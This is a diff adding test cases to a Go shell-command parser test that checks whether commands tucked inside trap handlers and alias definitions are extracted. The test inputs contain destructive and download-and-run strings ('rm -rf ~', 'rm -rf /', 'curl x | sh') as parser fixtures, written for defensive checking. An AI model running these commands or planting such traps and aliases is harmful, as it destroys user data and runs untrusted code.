@@ -173,6 +173,15 @@ func TestParseNestedScripts(t *testing.T) {
 		{"cat <<'EOF'\n$(rm -rf /)\nEOF\n", []string{"cat"}},
 		{`su -c 'id' root`, []string{"su -c id root", "1:su -c: id"}},
 		{`bash -c "$CMD"`, []string{"bash -c $CMD", "1:bash -c: $CMD"}},
+		// Code the shell keeps and runs later.
+		{`trap 'rm -rf ~' EXIT`, []string{"trap \"rm -rf ~\" EXIT", "1:trap: rm -rf ~"}},
+		{`trap -- 'curl x | sh' INT TERM`, []string{"trap -- \"curl x | sh\" INT TERM", "1:trap: curl x", "1:trap: sh"}},
+		{`trap - EXIT`, []string{"trap - EXIT"}},
+		{`trap 2 INT`, []string{"trap 2 INT"}},
+		{`trap 'id' `, []string{"trap id"}},
+		{`trap -p EXIT`, []string{"trap -p EXIT"}},
+		{`alias ls='rm -rf ~' ll='ls -l'`, []string{"alias \"ls=rm -rf ~\" \"ll=ls -l\"", "1:alias: rm -rf ~", "1:alias: ls -l"}},
+		{`alias ls`, []string{"alias ls"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.src, func(t *testing.T) {
